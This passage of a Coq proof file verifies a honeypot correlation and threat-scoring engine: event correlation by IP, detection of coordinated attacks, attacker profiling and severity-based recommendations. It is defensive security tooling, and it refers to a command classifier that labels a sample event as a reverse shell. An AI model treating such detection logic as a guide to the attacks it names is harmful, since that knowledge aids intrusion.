      intervals_of fromisoformat (timestamps_of shell) = Ok intervals
      ∧ Float64.ltb (variance_of float_sum float_pow intervals) Float64.one
        = true.
Proof.
  unfold automation_analysis.
  destruct (Nat.ltb_spec 5 (length shell)) as [H5|H5];
    [|split; [discriminate | lia]].
  destruct (Nat.ltb_spec 1 (length (timestamps_of shell))) as [H1|H1];
    [|split; [discriminate | lia]].
  destruct (intervals_of fromisoformat (timestamps_of shell))
    as [intervals|e] eqn:E; simpl.
  - apply intervals_of_length in E as Hlen.
    destruct intervals as [|x xs]; [simpl in Hlen; lia|].
    split.
    + intros [= Hv]. repeat split; [lia..|eauto].
    + intros (_ & _ & ivs & [= <-] & Hv). f_equal. exact Hv.
  - split; [discriminate|]. intros (_ & _ & ivs & Hivs & _). discriminate.
Qed.

Lemma automation_analysis_returns shell :
  (∃ b, automation_analysis fromisoformat float_sum float_pow shell = Ok b)
  ↔
  (length shell ≤ 5)%nat
  ∨ (length (timestamps_of shell) ≤ 1)%nat
  ∨ ∃ intervals,
      intervals_of fromisoformat (timestamps_of shell) = Ok intervals.
Proof.
  unfold automation_analysis.
  destruct (Nat.ltb_spec 5 (length shell)) as [H5|H5];
    [|split; eauto].
  destruct (Nat.ltb_spec 1 (length (timestamps_of shell))) as [H1|H1];
    [|split; eauto].
  destruct (intervals_of fromisoformat (timestamps_of shell))
    as [intervals|e] eqn:E; simpl.
  - split; [eauto|]. intros _. destruct intervals; eauto.
  - split; [intros [b Hb]; discriminate|].
    intros [H | [H | [ivs Hivs]]]; [lia | lia | discriminate].
Qed.

End WithStore.

End CorrelationFacts.

Module CorrelationTheorems.

Import Correlation CorrelationFacts.

(** C7: when exactly one of the three per-source queries raises,
    [correlate_by_ip] still returns; the failing source contributes the
    empty list, the two others what their queries returned, and
    [total_events] is the sum of the three lengths. *)
Theorem correlate_by_ip_survives_one_failure
    (es_search : SearchRequest → result SearchResponse)
    (utcnow : datetime) (isoformat : datetime → string)
    (ip : string) (range : option (datetime * datetime)) :
  let r := effective_range utcnow range in
  let from_cowrie :=
    search_events es_search isoformat "cowrie-*" "src_ip.keyword" ip
                  r.1 r.2 in
  let from_dionaea :=
    search_events es_search isoformat "dionaea-*" "remote_host.keyword" ip
                  r.1 r.2 in
  let from_snort :=
    search_events es_search isoformat "snort-*" "src_ip.keyword" ip
                  r.1 r.2 in
  let result := correlate_by_ip es_search utcnow isoformat ip range in
  exactly_one_raises from_cowrie from_dionaea from_snort →
  ip_address result = ip
  ∧ total_events (summary result)
    = (length (cowrie (events result))
       + length (dionaea (events result))
       + length (snort (events result)))%nat
  ∧ ((raises from_cowrie
      ∧ ∃ ld ls, from_dionaea = Ok ld ∧ from_snort = Ok ls
          ∧ events result = {| cowrie := []; dionaea := ld; snort := ls |})
     ∨ (raises from_dionaea
        ∧ ∃ lc ls, from_cowrie = Ok lc ∧ from_snort = Ok ls
            ∧ events result = {| cowrie := lc; dionaea := []; snort := ls |})
     ∨ (raises from_snort
        ∧ ∃ lc ld, from_cowrie = Ok lc ∧ from_dionaea = Ok ld
            ∧ events result
              = {| cowrie := lc; dionaea := ld; snort := [] |})).
Proof.
  intros r from_cowrie from_dionaea from_snort result Hone.
  destruct (correlate_by_ip_sources es_search utcnow isoformat ip range)
    as (Hc & Hd & Hs & Htotal & _).
  fold r in Hc, Hd, Hs. fold result in Hc, Hd, Hs, Htotal.
  unfold _query_cowrie_by_ip in Hc. unfold _query_dionaea_by_ip in Hd.
  unfold _query_snort_by_ip in Hs.
  fold from_cowrie in Hc. fold from_dionaea in Hd. fold from_snort in Hs.
  split.
  { unfold result, correlate_by_ip.
    destruct (effective_range utcnow range). reflexivity. }
  split; [exact Htotal|].
  assert (Hev : events result
                = {| cowrie := cowrie (events result);
                     dionaea := dionaea (events result);
                     snort := snort (events result) |})
    by (destruct (events result); reflexivity).
  rewrite Hev, Hc, Hd, Hs.
  destruct Hone as [(Hx & Hy & Hz) | [(Hx & Hy & Hz) | (Hx & Hy & Hz)]].
  - left. split; [exact Hx|].
    destruct Hx as [e ->].
    destruct (not_raises_returns _ Hy) as [ld ->].
    destruct (not_raises_returns _ Hz) as [ls ->].
    exists ld, ls. auto.
  - right; left. split; [exact Hy|].
    destruct Hy as [e ->].
    destruct (not_raises_returns _ Hx) as [lc ->].
    destruct (not_raises_returns _ Hz) as [ls ->].
    exists lc, ls. auto.
  - right; right. split; [exact Hz|].
    destruct Hz as [e ->].
    destruct (not_raises_returns _ Hx) as [lc ->].
    destruct (not_raises_returns _ Hy) as [ld ->].
    exists lc, ld. auto.
Qed.

(** C7 on a store whose shell-honeypot index is unreachable. *)
Lemma correlate_by_ip_survives_one_failure_witness :
  let result :=
    correlate_by_ip Samples.store_cowrie_down Samples.noon
                    Samples.isoformat "203.0.113.7" None in
  ip_address result = "203.0.113.7"
  ∧ total_events (summary result) = 3%nat
  ∧ events result = {| cowrie := [];
                       dionaea := Samples.dionaea_pair;
                       snort := Samples.snort_single |}.
Proof.
  intros result.
  destruct (correlate_by_ip_survives_one_failure
              Samples.store_cowrie_down Samples.noon Samples.isoformat
              "203.0.113.7" None)
    as (Hip & Htotal & _).
  { left. split; [eexists; reflexivity|].
    split; intros [e He]; discriminate. }
  fold result in Hip, Htotal.
  split; [exact Hip|]. split; [rewrite Htotal; reflexivity|].
  reflexivity.
Defined.

(** C8: with one bucket per source address, six distinct addresses in
    the window give exactly one medium-confidence multiple_sources
    finding with ip_count 6, and five or fewer give the empty list. *)
Theorem six_sources_one_finding
    (es_search : SearchRequest → result SearchResponse)
    (utcnow : datetime) (isoformat : datetime → string)
    (str_timedelta : Z → string) (window : Z)
    (response : SearchResponse) (buckets : list Bucket) :
  es_search (recent_sources_query utcnow isoformat window) = Ok response →
  by_source_ip response = Some buckets →
  NoDup (key <$> buckets) →
  (distinct_sources buckets = 6%nat →
   ∃ finding,
     detect_coordinated_attacks es_search utcnow isoformat str_timedelta
                                window = Ok [finding]
     ∧ pattern finding = "multiple_sources"
     ∧ confidence finding = "medium"
     ∧ ip_count finding = 6%nat)
  ∧ ((distinct_sources buckets ≤ 5)%nat →
     detect_coordinated_attacks es_search utcnow isoformat str_timedelta
                                window = Ok []).
Proof.
  intros Hsearch Hbuckets Hnodup.
  assert (Hcount : distinct_sources buckets = length buckets).
  { unfold distinct_sources. rewrite size_list_to_set by exact Hnodup.
    apply length_fmap. }
  unfold detect_coordinated_attacks. rewrite Hsearch. cbn [rbind].
  rewrite Hbuckets, Hcount. split.
  - intros H6. rewrite H6. simpl. eexists. split; [reflexivity|].
    repeat split.
  - intros H5. destruct (Nat.ltb_spec 5 (length buckets)); [lia|].
    reflexivity.
Qed.

(** C8 on a store that saw six addresses, and on one that saw five. *)
Lemma six_sources_one_finding_witness :
  (∃ finding,
     detect_coordinated_attacks (Samples.store_sources Samples.six_addresses)
       Samples.noon Samples.isoformat Samples.str_timedelta default_window
     = Ok [finding]
     ∧ pattern finding = "multiple_sources"
     ∧ confidence finding = "medium"
     ∧ ip_count finding = 6%nat)
  ∧ detect_coordinated_attacks (Samples.store_sources Samples.five_addresses)
      Samples.noon Samples.isoformat Samples.str_timedelta default_window
    = Ok [].
Proof.
  split.
  - eapply (six_sources_one_finding
              (Samples.store_sources Samples.six_addresses));
      [reflexivity | reflexivity | | reflexivity].
    apply (bool_decide_unpack _). vm_compute. exact I.
  - eapply (six_sources_one_finding
              (Samples.store_sources Samples.five_addresses));
      [reflexivity | reflexivity | | ].
    + apply (bool_decide_unpack _). vm_compute. exact I.
    + vm_compute. lia.
Defined.

End CorrelationTheorems.

Module ProfileTheorems.

Import Correlation CorrelationFacts.

(** C9, as amended: the call returns unless a time stamp it has to read
    is refused; is_persistent holds exactly when the correlation has
    more than 10 events; is_automated holds exactly when the shell
    honeypot has more than 5 events, at least 2 of them time-stamped,
    and the variance of the gaps, as the floats give it, is below 1.0;
    the risk assessment follows the two flags (both: high, block;
    persistent only: medium, monitor_closely; not persistent: low,
    monitor). In particular 12 shell-honeypot events with gap variance
    0.2 give persistent, automated, high, block. *)
Theorem attacker_profile_flags
    (es_search : SearchRequest → result SearchResponse)
    (utcnow : datetime) (isoformat : datetime → string)
    (fromisoformat : string → result datetime)
    (float_sum : list Float64.float → Float64.float)
    (float_pow : Float64.float → Z → Float64.float) (ip : string) :
  let correlation := profile_correlation es_search utcnow isoformat ip in
  let shell := cowrie (events correlation) in
  let stamps := timestamps_of shell in
  let variance := variance_of float_sum float_pow in
  let build :=
    build_attacker_profile es_search utcnow isoformat fromisoformat
                           float_sum float_pow ip in
  ((∃ profile, build = Ok profile) ↔
   (length shell ≤ 5)%nat ∨ (length stamps ≤ 1)%nat
   ∨ ∃ intervals, intervals_of fromisoformat stamps = Ok intervals)
  ∧ ∀ profile, build = Ok profile →
      let persistent := is_persistent (intelligence profile) in
      let automated := is_automated (intelligence profile) in
      let risk := risk_assessment profile in
      (persistent = true ↔ (10 < total_events (summary correlation))%nat)
      ∧ (automated = true ↔
         (5 < length shell)%nat ∧ (2 ≤ length stamps)%nat
         ∧ ∃ intervals,
             intervals_of fromisoformat stamps = Ok intervals
             ∧ Float64.ltb (variance intervals) Float64.one = true)
      ∧ (persistent = true → automated = true →
         threat_level risk = "high" ∧ recommended_action risk = "block")
      ∧ (persistent = true → automated = false →
         threat_level risk = "medium"
         ∧ recommended_action risk = "monitor_closely")
      ∧ (persistent = false →
         threat_level risk = "low" ∧ recommended_action risk = "monitor")
      ∧ (length shell = 12%nat → (2 ≤ length stamps)%nat →
         ∀ intervals,
           intervals_of fromisoformat stamps = Ok intervals →
           variance intervals = Float64.one_fifth →
           persistent = true ∧ automated = true
           ∧ threat_level risk = "high"
           ∧ recommended_action risk = "block").
Proof.
  intros correlation shell stamps variance build. subst stamps variance.
  assert (Hbuild : build =
    (let* automated :=
       automation_analysis fromisoformat float_sum float_pow shell in
     Ok {| profile_ip_address := ip;
           intelligence :=
             {| is_persistent :=
                  (10 <? total_events (summary correlation))%nat;
                is_automated := automated;
                sophistication_level := "low";
                likely_motive := "unknown" |};
           behavior :=
             {| behavior_targeted_services :=
                  targeted_services (summary correlation);
                attack_frequency := None;
                preferred_tools := [];
                evasion_techniques := [] |};
           risk_assessment :=
             if (10 <? total_events (summary correlation))%nat && automated
             then {| threat_level := "high";
                     recommended_action := "block" |}
             else if (10 <? total_events (summary correlation))%nat
             then {| threat_level := "medium";
                     recommended_action := "monitor_closely" |}
             else {| threat_level := "low";
                     recommended_action := "monitor" |} |}))
    by reflexivity.
  split.
  { rewrite <- (automation_analysis_returns fromisoformat float_sum
                  float_pow shell).
    rewrite Hbuild.
    destruct (automation_analysis fromisoformat float_sum float_pow shell)
      as [b|e];
      cbn [rbind]; split; eauto; intros [b Hb]; discriminate. }
  intros profile Hprofile persistent automated risk.
  rewrite Hbuild in Hprofile.
  destruct (automation_analysis fromisoformat float_sum float_pow shell)
    as [b|e] eqn:Eauto;
    [cbn [rbind] in Hprofile | discriminate].
  injection Hprofile as <-.
  cbn [intelligence is_persistent is_automated risk_assessment]
    in persistent, automated, risk.
  assert (Hpers : persistent = true
                  ↔ (10 < total_events (summary correlation))%nat)
    by apply Nat.ltb_lt.
  assert (Hauto : automated = true ↔
            (5 < length shell)%nat ∧ (2 ≤ length (timestamps_of shell))%nat
            ∧ ∃ intervals,
                intervals_of fromisoformat (timestamps_of shell) = Ok intervals
                ∧ Float64.ltb (variance_of float_sum float_pow intervals)
                              Float64.one = true).
  { rewrite <- (automation_analysis_true fromisoformat float_sum float_pow
                  shell), Eauto.
    unfold automated. split; [now intros -> | now intros [= ->]]. }
  split; [exact Hpers|]. split; [exact Hauto|].
  split; [intros Hp Ha; unfold risk; fold persistent automated;
          rewrite Hp, Ha; split; reflexivity|].
  split; [intros Hp Ha; unfold risk; fold persistent automated;
          rewrite Hp, Ha; split; reflexivity|].
  split; [intros Hp; unfold risk; fold persistent;
          rewrite Hp; split; reflexivity|].
  intros H12 H2 intervals Hivs Hvar.
  assert (Hp : persistent = true).
  { apply Hpers.
    destruct (correlate_by_ip_sources es_search utcnow isoformat ip
                (Some (dt_minus utcnow (days 30), utcnow)))
      as (_ & _ & _ & Htotal & _).
    fold (profile_correlation es_search utcnow isoformat ip) in Htotal.
    fold correlation in Htotal. rewrite Htotal. fold shell. lia. }
  assert (Ha : automated = true).
  { apply Hauto. split; [lia|]. split; [exact H2|].
    exists intervals. split; [exact Hivs|].
    rewrite Hvar. reflexivity. }
  split; [exact Hp|]. split; [exact Ha|].
  unfold risk. fold persistent automated. rewrite Hp, Ha.
  split; reflexivity.
Qed.

(** The amended C9 on twelve shell-honeypot events whose gaps have
    mean 1 s and variance 0.2. *)
Lemma attacker_profile_flags_witness :
  let stamps := timestamps_of Samples.twelve_steady in
  length Samples.twelve_steady = 12%nat
  ∧ (∃ intervals,
       intervals_of Samples.fromisoformat stamps = Ok intervals
       ∧ variance_of Samples.float_sum Samples.float_pow intervals
         = Float64.one_fifth)
  ∧ ∃ profile,
      build_attacker_profile
        (Samples.store_cowrie_only Samples.twelve_steady)
        Samples.noon Samples.isoformat Samples.fromisoformat
        Samples.float_sum Samples.float_pow "203.0.113.7"
      = Ok profile
      ∧ is_persistent (intelligence profile) = true
      ∧ is_automated (intelligence profile) = true
      ∧ threat_level (risk_assessment profile) = "high"
      ∧ recommended_action (risk_assessment profile) = "block".
Proof.
  intros stamps.
  split; [reflexivity|].
  assert (Hivs : ∃ intervals,
            intervals_of Samples.fromisoformat stamps = Ok intervals
            ∧ variance_of Samples.float_sum Samples.float_pow intervals
              = Float64.one_fifth).
  { eexists. split; [vm_compute; reflexivity|]. vm_compute. reflexivity. }
  split; [exact Hivs|].
  destruct Hivs as (intervals & Hivs & Hvar).
  destruct (attacker_profile_flags
              (Samples.store_cowrie_only Samples.twelve_steady)
              Samples.noon Samples.isoformat Samples.fromisoformat
              Samples.float_sum Samples.float_pow
              "203.0.113.7") as [Hreturns Hflags].
  destruct (proj2 Hreturns) as [profile Hprofile].
  { right; right. exists intervals. exact Hivs. }
  exists profile. split; [exact Hprofile|].
  destruct (Hflags profile Hprofile) as (_ & _ & _ & _ & _ & Hexample).
  apply (Hexample eq_refl ltac:(vm_compute; lia) intervals Hivs Hvar).
Defined.

(** C9, as stated, fails: three shell-honeypot commands one second
    apart are time-stamped and their gaps have variance 0.0, below 1.0,
    yet the profile is not flagged automated (the analysis starts at
    more than 5 events). *)
Lemma three_steady_events_not_automated :
  let stamps := timestamps_of Samples.three_steady in
  ∃ profile intervals,
    build_attacker_profile
      (Samples.store_cowrie_only Samples.three_steady)
      Samples.noon Samples.isoformat Samples.fromisoformat
      Samples.float_sum Samples.float_pow "203.0.113.7"
    = Ok profile
    ∧ cowrie (events (profile_correlation
                        (Samples.store_cowrie_only Samples.three_steady)
                        Samples.noon Samples.isoformat "203.0.113.7"))
      = Samples.three_steady
    ∧ (2 ≤ length stamps)%nat
    ∧ intervals_of Samples.fromisoformat stamps = Ok intervals
    ∧ intervals = [Float64.one; Float64.one]
    ∧ variance_of Samples.float_sum Samples.float_pow intervals
      = Float64.of_int 0
    ∧ Float64.ltb
        (variance_of Samples.float_sum Samples.float_pow intervals)
        Float64.one = true
    ∧ is_automated (intelligence profile) = false.
Proof.
  intros stamps. eexists. eexists.
  split; [vm_compute; reflexivity|].
  split; [vm_compute; reflexivity|].
  split; [vm_compute; lia|].
  split; [vm_compute; reflexivity|].
  split; [vm_compute; reflexivity|].
  split; [vm_compute; reflexivity|].
  split; [vm_compute; reflexivity|].
  reflexivity.
Qed.

(** The rounding of the floats decides at the boundary: ten gaps that
    alternate between 0.3 s and 2.3 s have mean 1.3 and, over the
    rationals, variance 1; the floats give 0.9999999999999998, which is
    below 1.0. *)
Example alternating_gaps_round_below_one :
  let short := total_seconds 300000 in
  let long := total_seconds 2300000 in
  let gaps := [short; long; short; long; short; long; short; long;
               short; long] in
  variance_of Samples.float_sum Samples.float_pow gaps
  = S754_finite false 9007199254740990 (-53)
  ∧ Float64.ltb (variance_of Samples.float_sum Samples.float_pow gaps)
                Float64.one = true.
Proof.
  split; vm_compute; reflexivity.
Qed.

End ProfileTheorems.


(** * Further properties *)

(** ** Threat scoring engine *)

Module ScoringExtras.

Import Scoring ScoringFacts MoreSamples.
Local Open Scope Z_scope.

(** The fields of a returned score, each by the function that fills it. *)
Lemma calculate_score_fields parse event out :
  calculate_score parse event = Ok out →
  _identify_attack_type event = Ok (attack_type out)
  ∧ _assess_sophistication event = Ok (sophistication_score (breakdown out))
  ∧ attack_type_score (breakdown out)
    = default 10 (ATTACK_TYPE_SCORES !! attack_type out)
  ∧ success_multiplier (breakdown out)
    = (if _is_successful_attack event then (3 # 2)%Q else 1%Q)
  ∧ ip_reputation_score (breakdown out) = _assess_ip_reputation event
  ∧ temporal_score (breakdown out) = _assess_temporal_patterns parse event
  ∧ base_score (breakdown out) = 0
  ∧ threat_score out = final_score (breakdown out)
  ∧ severity out = _score_to_severity (threat_score out)
  ∧ recommendations out
    = _generate_recommendations (threat_score out) (attack_type out).
Proof.
  unfold calculate_score.
  destruct (_identify_attack_type event) as [ty|]; [|discriminate].
  destruct (_assess_sophistication event) as [s|]; [|discriminate].
  cbn [rbind]. intros H.
  pose proof (f_equal (fun r => match r with Ok x => x | Raise _ => out end)
                      H) as Hout.
  cbv beta iota in Hout. rewrite <- Hout.
  cbn [attack_type breakdown threat_score severity recommendations
       sophistication_score attack_type_score success_multiplier
       ip_reputation_score temporal_score base_score final_score].
  repeat split.
Qed.

Lemma first_command_pattern_some table text label :
  first_command_pattern table text = Ok (Some label) →
  ∃ pre p w post,
    table = (pre ++ (p, (label, w)) :: post)%list
    ∧ Forall (fun entry => Re.search true entry.1 text = Ok false) pre
    ∧ Re.search true p text = Ok true.
Proof.
  induction table as [|[q [l w]] rest IH]; simpl; [discriminate|].
  destruct (Re.search true q text) as [[|]|e] eqn:E; simpl; try discriminate.
  - intros [= <-]. exists [], q, w, rest. auto.
  - intros H. destruct (IH H) as (pre & p & w' & post & -> & Hpre & Hp).
    exists ((q, (l, w)) :: pre), p, w', post. repeat split; auto.
Qed.

Lemma identify_attack_type_labels event ty :
  _identify_attack_type event = Ok ty →
  ty ∈ fixed_labels ∨ ty ∈ command_labels.
Proof.
  unfold _identify_attack_type.
  repeat case_match;
    try (intros [= <-]; left; unfold fixed_labels;
         repeat first [apply list_elem_of_here | apply list_elem_of_further]).
  destruct (first_command_pattern COMMAND_PATTERNS _) as [[label|]|] eqn:E;
    cbn [rbind]; [| |discriminate]; intros [= <-].
  - right. apply first_command_pattern_some in E
      as (pre & p & w & post & Htable & _).
    unfold command_labels. rewrite Htable, fmap_app, fmap_cons.
    apply elem_of_app; right. apply list_elem_of_here.
  - left. unfold fixed_labels.
    repeat first [apply list_elem_of_here | apply list_elem_of_further].
Qed.

Lemma command_labels_score ty :
  ty ∈ command_labels → default 10 (ATTACK_TYPE_SCORES !! ty) = 10.
Proof.
  revert ty. apply Forall_forall.
  apply (bool_decide_unpack _). vm_compute. exact I.
Qed.

(** X1: whatever the event, the attack-type score is one of 5, 10, 15,
    25, 30 and 40: no label the classifier returns has a higher entry in
    the score table, and every label of the command table scores the
    default 10. *)
Theorem attack_type_score_is_one_of_six parse event :
  ∃ out, calculate_score parse event = Ok out
    ∧ (attack_type out ∈ fixed_labels ∨ attack_type out ∈ command_labels)
    ∧ attack_type_score (breakdown out) ∈ [5; 10; 15; 25; 30; 40]
    ∧ (attack_type out ∈ command_labels →
       attack_type_score (breakdown out) = 10).
Proof.
  destruct (ScoringTheorems.calculate_score_ok parse event) as (out & Hout & _).
  exists out. split; [exact Hout|].
  destruct (calculate_score_fields _ _ _ Hout) as (Hty & _ & Hscore & _).
  pose proof (identify_attack_type_labels _ _ Hty) as Hlabel.
  split; [exact Hlabel|]. rewrite Hscore.
  split; [|apply command_labels_score].
  destruct Hlabel as [Hfixed | Hcommand].
  - revert Hfixed. generalize (attack_type out). apply Forall_forall.
    apply (bool_decide_unpack _). vm_compute. exact I.
  - rewrite (command_labels_score _ Hcommand).
    apply list_elem_of_further, list_elem_of_here.
Qed.

(** A lower bound of the sum the final score is cut from. *)
Lemma code_sum_lower (a n k : Z) (m : Q) :
  a ≤ n → 0 ≤ n → 0 ≤ k → m = 1%Q ∨ m = (3 # 2)%Q →
  (inject_Z a <= inject_Z n * m + inject_Z k)%Q.
Proof.
  intros Ha Hn Hk [-> | ->]; unfold Qle, Qplus, Qmult, inject_Z;
    cbn [Qnum Qden]; lia.
Qed.

(** X2: a command event (eventid with command.input and none of
    login.failed, login.success, file_download) takes the label of the
    first entry of the command table whose pattern is found in the
    lowered input and then scores the default 10 for the attack type;
    with no such entry it is command_execution and scores 25. Either way
    its multiplier is 1.5. *)
Theorem command_event_attack_type parse event :
  let event_id := Text.get_str (eventid event) in
  let command := Text.lower (Text.get_str (input event)) in
  Text.contains "command.input" event_id = true →
  Text.contains "login.failed" event_id = false →
  Text.contains "login.success" event_id = false →
  Text.contains "file_download" event_id = false →
  ∃ out, calculate_score parse event = Ok out
    ∧ success_multiplier (breakdown out) = (3 # 2)%Q
    ∧ ((attack_type out = "command_execution"
        ∧ attack_type_score (breakdown out) = 25
        ∧ Forall (fun entry => Re.search true entry.1 command = Ok false)
                 COMMAND_PATTERNS)
       ∨ (attack_type_score (breakdown out) = 10
          ∧ ∃ pre p w post,
              COMMAND_PATTERNS
              = (pre ++ (p, (attack_type out, w)) :: post)%list
              ∧ Forall (fun entry => Re.search true entry.1 command = Ok false)
                       pre
              ∧ Re.search true p command = Ok true)).
Proof.
  intros event_id command Hcmd Hfailed Hsuccess Hdownload.
  destruct (ScoringTheorems.calculate_score_ok parse event) as (out & Hout & _).
  exists out. split; [exact Hout|].
  destruct (calculate_score_fields _ _ _ Hout) as (Hty & _ & Hscore & Hm & _).
  split.
  { rewrite Hm. unfold _is_successful_attack. fold event_id.
    now rewrite Hsuccess, Hcmd. }
  unfold _identify_attack_type in Hty. fold event_id command in Hty.
  rewrite Hfailed, Hsuccess, Hdownload, Hcmd in Hty.
  destruct (first_command_pattern COMMAND_PATTERNS command)
    as [[label|]|] eqn:E; cbn [rbind] in Hty; [| |discriminate].
  - right. injection Hty as Hlabel. simpl in Hlabel. rewrite <- Hlabel.
    apply first_command_pattern_some in E as Hfirst.
    destruct Hfirst as (pre & p & w & post & Htable & Hpre & Hp).
    split; [|exists pre, p, w, post; auto].
    rewrite Hscore, <- Hlabel. apply command_labels_score.
    unfold command_labels. rewrite Htable, fmap_app, fmap_cons.
    apply elem_of_app; right. apply list_elem_of_here.
  - left. injection Hty as Hlabel. simpl in Hlabel.
    split; [now rewrite <- Hlabel|].
    split; [rewrite Hscore, <- Hlabel; reflexivity|].
    clear -E. revert E. generalize COMMAND_PATTERNS.
    induction l as [|[q [lab w]] rest IH]; simpl; [constructor|].
    destruct (Re.search true q command) as [[|]|] eqn:Eq; simpl;
      try discriminate.
    intros H. constructor; auto.
Qed.

(** X2 on a reverse shell: labelled reverse_shell, attack-type score 10,
    final score 15. *)
Lemma command_event_attack_type_witness :
  ∃ out, calculate_score Samples.fromisoformat reverse_shell = Ok out
    ∧ attack_type out = "reverse_shell"
    ∧ attack_type_score (breakdown out) = 10
    ∧ success_multiplier (breakdown out) = (3 # 2)%Q
    ∧ threat_score out = 15.
Proof.
  destruct (command_event_attack_type Samples.fromisoformat reverse_shell
              eq_refl eq_refl eq_refl eq_refl)
    as (out & Hout & Hm & _).
  exists out. split; [exact Hout|].
  assert (Hvalue : calculate_score Samples.fromisoformat reverse_shell
                   = Ok _) by (vm_compute; reflexivity).
  rewrite Hvalue in Hout. injection Hout as <-.
  repeat split.
Defined.

(** X3: the capped sub-scores of a breakdown stay within their caps
    (sophistication 0 to 30, reputation 0 to 25, geography 0 to 20,
    temporal 0 to 20), the multiplier is 1 or 1.5, the key base_score is
    never filled (it is 0 in every breakdown), and the final score is
    never below the attack-type score. *)
Theorem breakdown_within_caps parse event :
  ∃ out, calculate_score parse event = Ok out
    ∧ base_score (breakdown out) = 0
    ∧ 0 ≤ sophistication_score (breakdown out) ≤ 30
    ∧ (success_multiplier (breakdown out) = 1%Q
       ∨ success_multiplier (breakdown out) = (3 # 2)%Q)
    ∧ 0 ≤ ip_reputation_score (breakdown out) ≤ 25
    ∧ 0 ≤ geo_risk_score (breakdown out) ≤ 20
    ∧ 0 ≤ temporal_score (breakdown out) ≤ 20
    ∧ attack_type_score (breakdown out) ≤ threat_score out.
Proof.
  destruct (ScoringTheorems.calculate_score_ok parse event)
    as (out & Hout & Hts & _ & Hfin & Ha & Hs & Hm & Hr & Hg & Ht).
  exists out. split; [exact Hout|].
  destruct (calculate_score_fields _ _ _ Hout) as (_ & _ & _ & _ & _ & _ & Hb & _).
  repeat (split; [assumption|]).
  rewrite Hts, Hfin.
  destruct (ScoringTheorems.breakdown_sum_floor _ Ha Hs Hm Hr Hg Ht)
    as [-> _].
  apply Z.min_glb; [lia|].
  transitivity (Qfloor (inject_Z (attack_type_score (breakdown out))));
    [rewrite Qfloor_Z; lia|].
  apply Qfloor_resp_le, code_sum_lower; [lia | lia | lia | exact Hm].
Qed.

Lemma advice_labels_disjoint ty :
  ty ∈ ["malware_download"; "malware_execution"] →
  ty ∈ ["brute_force_success"; "credential_theft"] → False.
Proof.
  intros H1 H2.
  repeat (apply elem_of_cons in H1 as [-> | H1];
          [revert H2; apply (bool_decide_unpack _); vm_compute; exact I|]).
  now apply elem_of_nil in H1.
Qed.

(** X4: the recommendations of a score agree with its severity label:
    each severity tier is recognised by its own first entries, the
    malware advice is given exactly for the malware labels and the
    password advice exactly for brute_force_success and credential_theft;
    there are between 2 and 7 recommendations. *)
Theorem recommendations_follow_severity parse event :
  ∃ out, calculate_score parse event = Ok out
    ∧ (2 ≤ length (recommendations out) ≤ 7)%nat
    ∧ ("IMMEDIATE ACTION REQUIRED" ∈ recommendations out
       ↔ severity out = "critical")
    ∧ ("Block source IP" ∈ recommendations out ↔ severity out = "high")
    ∧ ("Add to watchlist" ∈ recommendations out ↔ severity out = "medium")
    ∧ ("No immediate action required" ∈ recommendations out
       ↔ severity out = "low")
    ∧ ("Submit malware sample to VirusTotal" ∈ recommendations out
       ↔ attack_type out ∈ ["malware_download"; "malware_execution"])
    ∧ ("Enable MFA if not already active" ∈ recommendations out
       ↔ attack_type out ∈ ["brute_force_success"; "credential_theft"]).
Proof.
  destruct (ScoringTheorems.calculate_score_ok parse event) as (out & Hout & _).
  exists out. split; [exact Hout|].
  destruct (calculate_score_fields _ _ _ Hout)
    as (_ & _ & _ & _ & _ & _ & _ & _ & -> & ->).
  generalize (threat_score out) (attack_type out). clear. intros score ty.
  unfold _generate_recommendations, _score_to_severity.
  destruct (decide (ty ∈ ["malware_download"; "malware_execution"]))
    as [Hmal|Hmal];
    destruct (decide (ty ∈ ["brute_force_success"; "credential_theft"]))
      as [Hpwd|Hpwd];
    try (exfalso; exact (advice_labels_disjoint ty Hmal Hpwd));
    rewrite ?(bool_decide_eq_true_2 _ Hmal), ?(bool_decide_eq_false_2 _ Hmal),
            ?(bool_decide_eq_true_2 _ Hpwd), ?(bool_decide_eq_false_2 _ Hpwd);
    (destruct (76 <=? score); [|destruct (51 <=? score);
                                [|destruct (26 <=? score)]]);
    (split; [simpl; lia|]);
    repeat split;
    try (intros _;
         first [reflexivity | assumption
               | solve [repeat first [apply list_elem_of_here
                                     | apply list_elem_of_further]]]);
    try discriminate;
    intros H; exfalso; revert H;
    first [exact Hmal | exact Hpwd
          | apply (bool_decide_unpack _); vm_compute; exact I].
Qed.

(** X5: a time stamp that [fromisoformat] refuses never makes the scorer
    fail: the event scores as if it had no ["@timestamp"] key. *)
Theorem unreadable_timestamp_is_ignored parse event stamp e :
  at_timestamp event = Some stamp →
  parse (Text.replace_Z stamp) = Raise e →
  calculate_score parse event
  = calculate_score parse (without_at_timestamp event).
Proof.
  intros Hstamp Hparse.
  assert (Htemporal : _assess_temporal_patterns parse event
                      = _assess_temporal_patterns parse
                          (without_at_timestamp event)).
  { unfold _assess_temporal_patterns. rewrite Hstamp. simpl at_timestamp.
    rewrite Hparse. cbn [rbind try_except].
    destruct (Text.truthy stamp); reflexivity. }
  unfold calculate_score. rewrite Htemporal. reflexivity.
Qed.

(** X5 on a failed login stamped "yesterday": it scores 15, low. *)
Lemma unreadable_timestamp_is_ignored_witness :
  Samples.fromisoformat (Text.replace_Z "yesterday") = Raise ValueError
  ∧ calculate_score Samples.fromisoformat garbled_timestamp
    = calculate_score Samples.fromisoformat
        (without_at_timestamp garbled_timestamp)
  ∧ ∃ out, calculate_score Samples.fromisoformat garbled_timestamp = Ok out
      ∧ temporal_score (breakdown out) = 0
      ∧ threat_score out = 15.
Proof.
  split; [reflexivity|]. split.
  - apply (unreadable_timestamp_is_ignored Samples.fromisoformat
             garbled_timestamp "yesterday" ValueError); reflexivity.
  - eexists. split; [vm_compute; reflexivity|]. split; reflexivity.
Defined.

(** X6: a successful login (eventid with login.success and without
    login.failed) from a blocklisted address is brute_force_success with
    a final score of at least 80, hence critical, whatever the other
    fields of the event are. *)
Theorem blocklisted_successful_login_is_critical parse event rep :
  let event_id := Text.get_str (eventid event) in
  Text.contains "login.success" event_id = true →
  Text.contains "login.failed" event_id = false →
  reputation event = Some rep →
  in_blocklist rep = true →
  ∃ out, calculate_score parse event = Ok out
    ∧ attack_type out = "brute_force_success"
    ∧ attack_type_score (breakdown out) = 40
    ∧ 20 ≤ ip_reputation_score (breakdown out)
    ∧ 80 ≤ threat_score out
    ∧ severity out = "critical".
Proof.
  intros event_id Hsuccess Hfailed Hrep Hblock.
  destruct (ScoringTheorems.calculate_score_ok parse event)
